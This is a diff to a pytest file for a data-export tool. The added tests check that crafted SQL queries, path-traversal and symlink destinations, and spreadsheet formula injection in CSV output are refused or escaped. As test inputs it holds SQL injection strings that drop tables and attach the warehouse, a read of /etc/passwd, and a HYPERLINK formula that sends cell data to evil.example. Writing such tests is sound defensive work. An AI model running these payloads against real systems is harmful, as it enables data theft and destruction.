@@ -3,6 +3,7 @@ its schedule and `leadwh export`."""
 
 from __future__ import annotations
 
+import csv
 import json
 from datetime import datetime
 from pathlib import Path
@@ -12,7 +13,6 @@ import duckdb
 import pytest
 
 from ingest.ops.config import load_exports
-from ingest.paths import Paths
 from ingest.serving.exports import run_export
 from tests.conftest import environment
 from tests.ops.conftest import write_yaml
@@ -49,29 +49,6 @@ EXPORTS = {
         {"name": "missing_mart", "mart": "fct_nothing", "format": "csv"},
     ]
 }
-
-
-@pytest.fixture
-def home(tmp_path) -> Paths:
-    """A serving file with a small marts.fct_leads: 96 leads, one every hour for 4 days."""
-    paths = Paths(tmp_path / "home")
-    paths.serving.parent.mkdir(parents=True)
-    with duckdb.connect(str(paths.serving)) as con:
-        con.execute("create schema marts")
-        con.execute(
-            """
-            create table marts.fct_leads as
-            select
-                printf('lead%03d', i) as lead_id,
-                timestamp '2026-10-27 00:30:00' + to_hours(i) as submitted_at,
-                cast(timestamp '2026-10-27 00:30:00' + to_hours(i) as date) as submitted_date,
-                ['A', 'B', 'C'][1 + i % 3] as source_name,
-                case when i % 2 = 0 then 'accepted' else 'rejected' end as lead_outcome,
-                i * 1.5 as profit
-            from range(96) as r(i)
-            """
-        )
-    return paths
 
 
 @pytest.fixture
@@ -199,3 +176,128 @@ def test_leadwh_export_runs_it_through_dagster(home, tmp_path, capsys):
     assert Path(home.home / "exports" / "daily" / "leads_last_24h.csv").exists()
     assert event is not None and runs[0].job_name == "export_leads_last_24h"
     assert runs[0].tags["leadwh/trigger"] == "cli"
+
+
+# --------------------------------------------------------------------------------------------
+# Hostile or careless specs: the SQL sandbox's rules, the exports folder, spreadsheet formulas
+
+
+def query_spec(query: str, **changes):
+    """An export of ``query`` as written, without the checks of the config loader."""
+    from dataclasses import replace
+
+    from ingest.ops.config import _export_spec
+
+    base = _export_spec({"name": "crafted", "query": "select 1"}, "test", "exports")
+    return replace(base, query=query, **changes)
+
+
+def files_under(root: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}
+
+
+@pytest.mark.parametrize(
+    ("query", "message"),
+    [
+        ("copy marts.fct_leads to '{tmp}/stolen.csv'", "copy statement"),
+        ("select 1 as x; drop table marts.fct_leads", "one statement"),
+        ("select 1 as x) as src; drop table marts.fct_leads; select * from (select 1", "parse"),
+        (
+            "select 1 as x) as src; attach '{warehouse}' as w; drop table w.raw.lead_events;"
+            " select * from (select 1",
+            "parse",
+        ),
+        ("select * from read_csv('/etc/passwd')", "disabled by configuration"),
+        ("select * from query('attach ''{warehouse}'' as w')", "single SELECT"),
+        ("select * from glob('{tmp}/*')", "disabled by configuration"),
+    ],
+)
+def test_a_crafted_query_writes_nothing_and_drops_nothing(home, tmp_path, query, message):
+    before = files_under(tmp_path)
+    spec = query_spec(query.format(tmp=tmp_path, warehouse=home.warehouse))
+    with pytest.raises(ValueError, match=message):
+        run_export(spec, home.serving, home.home)
+    assert files_under(tmp_path) == before
+    with duckdb.connect(str(home.serving), read_only=True) as con:
+        assert con.execute("select count(*) from marts.fct_leads").fetchone()[0] == 96
+    with duckdb.connect(str(home.warehouse), read_only=True) as con:
+        assert con.execute("select count(*) from raw.lead_events").fetchone()[0] == 1
+
+
+def test_an_export_past_its_row_or_time_limit_fails_whole(home):
+    with pytest.raises(ValueError, match="more than 10 rows; nothing was written"):
+        run_export(
+            query_spec("select * from marts.fct_leads", max_rows=10), home.serving, home.home
+        )
+    slow = query_spec("select count(*) from range(1000000000000) as a, range(9)", timeout=0.5)
+    with pytest.raises(ValueError, match="longer than 0.5 s"):
+        run_export(slow, home.serving, home.home)
+    assert not list(home.exports.rglob("*.csv"))
+
+
+@pytest.mark.parametrize("destination", ["landing", "serving", "exports/../landing"])
+def test_a_destination_outside_the_exports_folder_is_refused(home, destination):
+    from ingest.serving.exports import UnsafeDestination
+
+    spec = query_spec("select 1 as x", destination=destination)
+    with pytest.raises(UnsafeDestination, match="outside the exports folder"):
+        run_export(spec, home.serving, home.home)
+    assert not list(home.home.rglob("crafted.csv"))
+
+
+def test_a_symlink_out_of_the_exports_folder_is_refused(home, tmp_path):
+    from ingest.serving.exports import UnsafeDestination
+
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    home.exports.mkdir(parents=True)
+    (home.exports / "shared").symlink_to(outside, target_is_directory=True)
+    spec = query_spec("select 1 as x", destination="exports/shared")
+    with pytest.raises(UnsafeDestination, match="outside the exports folder"):
+        run_export(spec, home.serving, home.home)
+    assert list(outside.iterdir()) == []
+    # a link inside the exports folder is fine, and so is the exports folder being a link itself
+    (home.exports / "inner").mkdir()
+    (home.exports / "alias").symlink_to(home.exports / "inner", target_is_directory=True)
+    result = run_export(
+        query_spec("select 1 as x", destination="exports/alias"), home.serving, home.home
+    )
+    assert (home.exports / "inner" / "crafted.csv").read_text() == "x\n1\n"
+    assert result.rows == 1
+
+
+def test_csv_text_that_a_spreadsheet_would_run_is_escaped_and_numbers_stay_numbers(home):
+    query = """
+        select * from (values
+            ('=HYPERLINK("http://evil.example/?"&A1, "click")', -12.5, 'plain'),
+            ('+1+2', -3.0, '-minus'),
+            ('@SUM(A1:A9)', 4.0, e'\\tTab'),
+            (e'\\rreturn', -0.5, 'a=b'),
+            (null, null, ' =spaced')
+        ) as t("=cmd", amount, note)
+    """
+    result = run_export(query_spec(query), home.serving, home.home)
+    with result.path.open(newline="") as file:
+        rows = list(csv.reader(file))
+    assert rows == [
+        ["'=cmd", "amount", "note"],
+        ['\'=HYPERLINK("http://evil.example/?"&A1, "click")', "-12.5", "plain"],
+        ["'+1+2", "-3.0", "'-minus"],
+        ["'@SUM(A1:A9)", "4.0", "'\tTab"],
+        ["'\rreturn", "-0.5", "a=b"],
+        ["", "", " =spaced"],
+    ]
+    # the negative numbers are written as numbers, and the column is numeric in the file
+    with duckdb.connect() as con:
+        kind = con.execute(
+            f"select typeof(amount) from read_csv('{result.path}') limit 1"
+        ).fetchone()[0]
+    assert kind == "DOUBLE"
+    assert result.columns == ["=cmd", "amount", "note"]  # the sidecar keeps the real names
+
+
+def test_parquet_keeps_values_as_they_are(home):
+    spec = query_spec("select '=1+1' as formula, -2 as n", format="parquet")
+    result = run_export(spec, home.serving, home.home)
+    with duckdb.connect() as con:
+        assert con.execute(f"select * from '{result.path}'").fetchall() == [("=1+1", -2)]
